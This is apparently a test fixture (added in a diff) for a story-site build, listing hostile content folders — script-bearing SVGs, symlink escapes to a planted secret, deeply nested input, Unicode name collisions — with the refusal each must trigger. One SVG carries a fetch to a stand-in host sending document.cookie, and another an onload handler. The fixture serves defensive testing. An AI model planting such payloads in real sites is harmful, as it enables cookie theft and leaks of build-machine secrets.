@@ -1,0 +1,176 @@
+import { deflateSync } from 'node:zlib';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+
+/**
+ * The hostile-story corpus: content folders an author, a co-author's pull request or a bad
+ * tool could hand the build, each named after its attack, with the problem the build must
+ * give (naming the file). `tests/unit/hostile-story.test.ts` sweeps it through the build's
+ * own reading of a story; each entry must end in a refusal within seconds.
+ */
+export interface HostileStory {
+  /** The attack, as the test is named. */
+  attack: string;
+  /** Files of the content folder beyond a sound story.md and one chapter: path → text or bytes, or a link. */
+  files: Record<string, string | Uint8Array | { linkTo: string }>;
+  /** The problem the build gives. */
+  problem: RegExp;
+}
+
+const chapter = (front: string, body = 'Words of the chapter.') => `---\n${front}\n---\n\n${body}\n`;
+
+/** A PNG that says it is `width` × `height` in its header (its pixels are never decoded). */
+export function pngHeader(width: number, height: number): Uint8Array {
+  const chunk = (type: string, data: Buffer) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(body));
+    return Buffer.concat([length, body, crc]);
+  };
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(16))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+function crc32(bytes: Buffer): number {
+  let crc = 0xffffffff;
+  for (const byte of bytes) {
+    crc ^= byte;
+    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
+  }
+  return (crc ^ 0xffffffff) >>> 0;
+}
+
+export const hostileStories: HostileStory[] = [
+  {
+    attack: 'an SVG picture with a script, put in images/ by hand and shown nowhere',
+    files: {
+      'images/map.svg':
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script><circle r="4"/></svg>',
+    },
+    problem: /images\/map\.svg: the picture holds a script \(<script>\), which would run or load on the site/,
+  },
+  {
+    attack: 'an SVG picture with an event handler and a reference to another site',
+    files: {
+      'images/badge.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="https://tracker.example/p.png"/></svg>',
+    },
+    problem:
+      /images\/badge\.svg: the picture holds an event handler \(onload\), an outside reference \(href="https:\/\/tracker\.example\/p\.png"\)/,
+  },
+  {
+    attack: 'a file named like a picture that is a page',
+    files: { 'images/lake.png': '<html><script>alert(1)</script></html>' },
+    problem: /images\/lake\.png: not a picture, or a damaged one/,
+  },
+  {
+    attack: 'a picture of another kind than its name says',
+    files: { 'images/lake.jpg': pngHeader(10, 10) },
+    problem: /images\/lake\.jpg: the file is a PNG picture, not the JPEG its name says/,
+  },
+  {
+    attack: 'a 15,000 × 15,000 pixel picture that would take gigabytes to process',
+    files: { 'images/cover.png': pngHeader(15000, 15000) },
+    problem: /images\/cover\.png: 15000×15000 pixels \(225 megapixels\) is more than a page can use/,
+  },
+  {
+    attack: 'a chapter that is a link to a file outside the content folder (a secret of the machine that builds)',
+    files: { 'chapters/leak.md': { linkTo: '../../outside/secret.md' } },
+    problem: /chapters\/leak\.md: a link to a file outside the content folder/,
+  },
+  {
+    attack: 'a picture reached through a linked folder outside the content folder',
+    files: {
+      'images/linked': { linkTo: '../../outside' },
+      'chapters/chapter-2.md': chapter('title: Two\norder: 2', '![the secret](images/linked/photo.png)'),
+    },
+    problem: /chapters\/chapter-2\.md:\d+: the image "images\/linked\/photo\.png" is not in the content folder/,
+  },
+  {
+    attack: 'a link to itself in the pictures (a loop) that would crash the build',
+    files: { 'images/loop': { linkTo: 'loop' }, 'chapters/chapter-2.md': chapter('title: Two\norder: 2', '![loop](images/loop/x.png)') },
+    problem: /chapters\/chapter-2\.md:\d+: the image "images\/loop\/x\.png" is not in the content folder/,
+  },
+  {
+    attack: 'a folder named like a chapter file',
+    files: { 'chapters/chapter-2.md/notes.txt': 'a folder' },
+    problem: /chapters\/chapter-2\.md\/: a folder named like a chapter file/,
+  },
+  {
+    attack: 'a slug of 300 characters, longer than any file system takes',
+    files: { 'chapters/chapter-2.md': chapter(`title: Two\norder: 2\nslug: ${'a'.repeat(300)}`) },
+    problem: /chapters\/chapter-2\.md: slug: slug "a{300}" is longer than 100 characters/,
+  },
+  {
+    attack: 'two chapters whose file names differ only in Unicode normalisation, one overwriting the other',
+    files: { 'chapters/caf\u00e9.md': chapter('title: One\norder: 5'), 'chapters/cafe\u0301.md': chapter('title: Two\norder: 6') },
+    problem: /slug café is used by both \S+chapters\/caf.+\.md and \S+chapters\/caf.+\.md/,
+  },
+  {
+    attack: 'quotes nested 5,000 deep, which overflowed the stack',
+    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `${'>'.repeat(5000)} deep`) },
+    problem: /chapters\/chapter-2\.md:6: the text nests more than 64 levels deep/,
+  },
+  {
+    attack: 'a list nested 3,000 deep, whose parsing time grows with the cube of its depth',
+    files: {
+      'chapters/chapter-2.md': chapter(
+        'title: Two\norder: 2',
+        Array.from({ length: 3000 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n'),
+      ),
+    },
+    problem: /chapters\/chapter-2\.md:\d+: the text nests more than 64 levels deep/,
+  },
+  {
+    attack: 'raw HTML nested 5,000 deep',
+    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`) },
+    problem: /chapters\/chapter-2\.md(?::\d+)?: the raw HTML nests more than 64 levels deep/,
+  },
+  {
+    attack: 'a picture from another site, which tells that site who reads',
+    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', 'Look: ![a map](https://tracker.example/map.png)') },
+    problem: /chapters\/chapter-2\.md:6: the picture https:\/\/tracker\.example\/map\.png is on another site/,
+  },
+  {
+    attack: 'a language tag of the right shape that no browser knows',
+    files: { 'story.md': chapter('title: T\nauthor: A\nlanguage: en-12', 'A summary.') },
+    problem: /story\.md: language: language must be a BCP 47 tag/,
+  },
+  {
+    attack: 'a label named after what every object has',
+    files: { 'story.md': chapter('title: T\nauthor: A\nlabels:\n  toString: x', 'A summary.') },
+    problem: /story\.md: labels\.toString: labels: unknown key "toString"/,
+  },
+  {
+    attack: 'a vertical tab left in a chapter',
+    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', 'and\vthe') },
+    problem: /chapters\/chapter-2\.md:6: an invisible control character \(U\+000B\)/,
+  },
+];
+
+/** Writes a hostile story's content folder (a sound story with the attack's files added); `outside` holds a file beyond it. */
+export function writeHostileStory(root: string, story: HostileStory): string {
+  const content = join(root, 'content');
+  mkdirSync(join(content, 'chapters'), { recursive: true });
+  mkdirSync(join(root, 'outside'), { recursive: true });
+  writeFileSync(join(root, 'outside', 'secret.md'), chapter('title: Secret\norder: 9', 'A token: s3cr3t'));
+  writeFileSync(join(root, 'outside', 'photo.png'), pngHeader(4, 4));
+  writeFileSync(join(content, 'story.md'), chapter('title: Hostile\nauthor: Mallory', 'A summary.'));
+  writeFileSync(join(content, 'chapters', 'chapter-1.md'), chapter('title: One\norder: 1'));
+  for (const [path, file] of Object.entries(story.files)) {
+    const target = join(content, path);
+    mkdirSync(dirname(target), { recursive: true });
+    if (typeof file === 'object' && 'linkTo' in file) symlinkSync(file.linkTo, target);
+    else writeFileSync(target, file);
+  }
+  return content;
+}
